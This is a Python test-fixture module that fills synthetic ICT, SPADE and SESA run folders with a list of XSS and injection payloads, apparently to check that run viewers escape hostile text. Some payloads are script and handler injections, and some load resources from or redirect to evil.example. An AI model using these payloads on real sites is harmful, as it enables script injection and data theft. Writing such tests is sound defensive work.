"""Runs in which every text is an attack on the page that shows it: each would call `alert`, or fetch from elsewhere."""

from __future__ import annotations

import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

from metagym.episodes import Repair, Status, Turn
from metagym.runs.folder import RunFolder, base_manifest
from metagym.sesa.cards import SkillCard
from metagym.sesa.skills import SkillBank
from metagym.spade.stand_ins.programs import number_lock
from metagym.tasks import Task
from tests.unit.runs.synthetic import a_manifest, an_episode, episode_records
from tests.unit.spade.running import config, run

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=http://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src="http://evil.example/pixel">',
    "' onfocus='alert(1)' autofocus tabindex=1 x='",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1) data-key=ArrowRight rel=next>x</a>",
    "javascript:alert(1)",
    "</pre></textarea></title></style></script><script>alert(1)</script>",
    "]]><!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/)}</style>",
    "<form action=http://evil.example/><button id=compare>x</button></form>",
    "<div data-list=http://evil.example/ data-figures=http://evil.example/></div>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "__proto__",
    "\u202egnp.<script>alert(1)</script>\u2066 \u2028alert(1)\u2029",
    "\x00<script\x00>alert(1)</script>\x1b[31m",
)


def names() -> list[str]:
    """The payloads that a file system takes as the name of a folder."""
    return [text for text in PAYLOADS if "/" not in text and "\x00" not in text and text.isprintable()]


def hostile_ict(path: Path, payload: str) -> Path:
    """A run of ICT: the payload is task, type, arm, prompt, observation, reply, action, cause and every setting."""
    texts = {"observation": payload, "reply": f"{payload}\n{payload}", "action": payload}
    story = (
        Turn(**texts, reward=0.0, terminated=False, truncated=False, repair=Repair.REPAIRED, admissible=(payload,)),
        Turn(payload, None, "", 0.0, False, True, Repair.ABSENT, payload),
    )
    task = Task(payload, f"{payload}id", payload, payload)
    facts: dict[str, Any] = {
        "last_observation": payload,
        "cause": payload,
        "info": {payload: payload},
        "backend": payload,
    }
    told = {
        "outcome": payload,
        "analysis": payload,
        "reply": payload,
        "cause": payload,
        "usage": {},
        "backend": payload,
    }
    rows: list[tuple[str, Any]] = [("turn/0/prompt", {"kind": "prompt", "turn": 0, "prompt": payload})]
    for turn in (0, 1):
        played = [an_episode(task, turn == 1, Status.TRUNCATED, story, **facts)]
        rows += [(key, {**value, "arm": payload}) for key, value in episode_records("", turn, "eval", played)]
    reflection = {"kind": "reflection", "turn": 1, "prompt": f"{payload}\nmore", **told}
    rows.append(("turn/1/reflection", {**reflection, "accepted": False, "rejected_prompt": payload}))
    manifest = a_manifest(
        config={"family": payload, "actor": payload, "seed": payload}, versions=payload, title=payload
    )
    with RunFolder.create(path, {**manifest, "metagym": payload}) as folder:
        folder.records.append_many(rows)
    return path


def hostile_spade(path: Path) -> Path:
    """A run of SPADE whose designer puts the payloads into titles, skills, sources and refused replies."""
    count = iter(range(10_000))

    def designer(request: Any) -> str:
        number = next(count)
        payload = " ".join(PAYLOADS[number % len(PAYLOADS)].split()).replace("\\", "").replace('"', "'")
        payload = "".join(sign for sign in payload if sign.isprintable())
        if number % 3 == 0:
            return payload
        source = number_lock(2 + number % 3, ["ledger"]).replace("\n\n\nclass", f"\n\n\n# {payload}\nclass", 1)
        lines = [f"title: {payload}" if line.startswith("title: ") else line for line in source.splitlines()]
        return "```python\n" + "\n".join(lines) + "\n```"

    settings = config(designer=designer, hinter="rules", auditor="rules", rounds=2, programs=6, skills=(PAYLOADS[2],))
    _, records, _ = run(settings)
    told = replace(settings, designer="python:x:y").to_json()
    with RunFolder.create(path, {**base_manifest(), "command": "spade run", "config": told}) as folder:
        folder.records.append_many((key, records.get(key)) for key in records.keys())
    return path


def hostile_sesa(path: Path, fair: Path) -> Path:
    """A run of SESA made of a fair one: payloads in cards, questions and all turns."""
    shutil.copytree(fair / "bank", path / "bank")
    cards = []
    with SkillBank.open(path / "bank") as bank:
        for payload in PAYLOADS[:8]:
            text = " ".join(payload.split())
            card = SkillCard(f"say {text}", text, text, text, title=text, category=text, notes=text, question=text)
            bank.add(card)
            cards.append(card.id)
    number = iter(range(10**6))

    def spoilt(value: Any) -> Any:
        if isinstance(value, dict):
            mine = {"question", "observation", "reply", "action", "last_observation", "cause"}
            return {
                key: PAYLOADS[next(number) % len(PAYLOADS)] if key in mine and isinstance(item, str) else spoilt(item)
                for key, item in value.items()
            }
        return [spoilt(item) for item in value] if isinstance(value, list) else value

    with RunFolder.open(fair) as told:
        rows, manifest = list(told.records.records()), dict(told.manifest)
    made = []
    for key, value in rows:
        if key == "prime":
            value = {**value, "primed": {**value["primed"], "hand": [*value["primed"]["hand"], *cards]}}
        made.append((key, spoilt(value) if key.endswith(("attempt", "challenge")) else value))
    shutil.move(path / "bank", path.with_name("bank-of-" + path.name))
    with RunFolder.create(path, manifest) as folder:
        folder.records.append_many(made)
    shutil.move(path.with_name("bank-of-" + path.name), path / "bank")
    return path
